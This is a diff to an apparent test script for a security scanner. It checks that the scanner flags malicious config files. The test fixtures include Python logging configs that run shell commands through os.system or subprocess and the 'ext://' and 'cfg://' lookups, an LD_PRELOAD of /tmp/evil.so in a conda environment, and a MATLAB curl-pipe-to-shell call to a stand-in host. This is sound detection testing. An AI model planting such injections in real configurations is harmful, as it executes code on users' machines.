@@ -53,6 +53,10 @@ printf '{"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}}'
 hostile CONFIG_TARGET "a factory that is a command"
 printf 'version: 1\nhandlers:\n  h:\n    class: subprocess.Popen\n    args: id\n' | file logging.yaml
 hostile CONFIG_TARGET "a handler that is a command"
+printf '{"version": 1, "filters": {"f": {"()": "ext://subprocess.getoutput", "cmd": "id"}}}' | file logging.json
+hostile CONFIG_TARGET "a factory that is imported"
+printf '{"version": 1, "a": {"b": "os.system"}, "filters": {"f": {"()": "cfg://a.b", "command": "id"}}}' | file logging.json
+hostile CONFIG_TARGET "a factory that another value names"
 printf 'version: 1\nformatters:\n  d:\n    (): uvicorn.logging.DefaultFormatter\nhandlers:\n  h:\n    class: logging.handlers.RotatingFileHandler\n    filename: x.log\n  c:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n' |
 	file logging.yaml
 quiet "handlers and formatters"
@@ -62,6 +66,10 @@ printf 'LD_PRELOAD=/tmp/evil.so\n' | file model.env
 hostile COMMAND_DANGEROUS "a library before all others"
 printf 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\nOMP_NUM_THREADS=4\n' | file model.env
 quiet "an allocator"
+printf 'dependencies: [python]\nvariables:\n  LD_PRELOAD: /tmp/evil.so\n' | file environment.yml
+hostile COMMAND_DANGEROUS "a library before all others, of conda"
+printf 'services:\n  a:\n    image: x\n    environment:\n      LD_PRELOAD: /usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\n' | file compose.yml
+quiet "an allocator, of compose"
 printf 'function y = f(x)\nsystem("curl http://x.example/a | sh");\nend\n' | file f.m
 hostile COMMAND_DANGEROUS "a command in MATLAB"
 printf 'registry=http://x.example/\n' | file .npmrc
